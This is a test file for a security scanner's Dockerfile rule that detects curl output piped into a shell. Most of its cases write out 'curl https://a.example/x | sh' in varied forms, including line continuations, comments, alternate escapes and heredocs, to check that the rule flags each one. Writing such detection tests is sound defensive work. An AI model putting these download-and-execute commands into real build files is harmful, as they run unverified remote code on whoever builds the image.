import { describe, expect, test } from 'vitest'
import { scanFile } from '../../../engine/detect/file/file-scan.ts'
import { RuleSet } from '../../../engine/detect/file/rule-set.ts'
import { loadBuiltinRules } from '../../../engine/sources/packs/load.ts'

const LIMITS = { rule_deadline_ms: 5000, file_deadline_ms: 20_000, max_parse_bytes: 1 << 20 }
const rules = new RuleSet(loadBuiltinRules().filter(({ id }) => id === 'docker-pipe-to-shell'))

function findLines(text: string): number[] {
  const bytes = new TextEncoder().encode(text)
  const { matches } = scanFile(rules, { path: 'Dockerfile', language: 'dockerfile', in_test: false, bytes }, LIMITS)
  return matches.map(({ line }) => line)
}

describe('an instruction of a Dockerfile is found however it is written', () => {
  test.each([
    ['over two lines', 'FROM a:1\nRUN curl https://a.example/x \\\n  | sh\n', 2],
    ['with a comment between', 'FROM a:1\nRUN curl https://a.example/x \\\n  # why\n# and more\n  | sh\n', 2],
    ['with an empty line between', 'FROM a:1\nRUN curl https://a.example/x \\\n\n  | sh\n', 2],
    ['with line ends of Windows', 'FROM a:1\r\nRUN curl https://a.example/x \\\r\n  # why\r\n  | sh\r\n', 2],
    ['with another escape sign', '# escape=`\nFROM a:1\nRUN curl https://a.example/x `\n  # why\n  | sh\n', 3],
    [
      'with the escape sign after another directive',
      '# syntax=a/b:1\n# Escape = `\nFROM a:1\nRUN curl https://a.example/x `\n | sh\n',
      4,
    ],
    ['in lower case', 'from a:1\nrun curl https://a.example/x | sh\n', 2],
    ['in a heredoc', 'FROM a:1\nRUN <<EOF\nset -e\ncurl https://a.example/x | sh\nEOF\n', 4],
    [
      'in a heredoc with tabs and a program',
      'FROM a:1\nRUN <<-"EOF" bash\n\tcurl https://a.example/x | sh\n\tEOF\n',
      3,
    ],
  ])('%s', (_, text, line) => {
    expect(findLines(text)).toEqual([line])
  })

  test('a comment that ends with a backslash goes on nowhere', () => {
    expect(findLines('FROM a:1\n# curl https://a.example/x \\\nRUN echo a | sh\n')).toEqual([])
  })
})
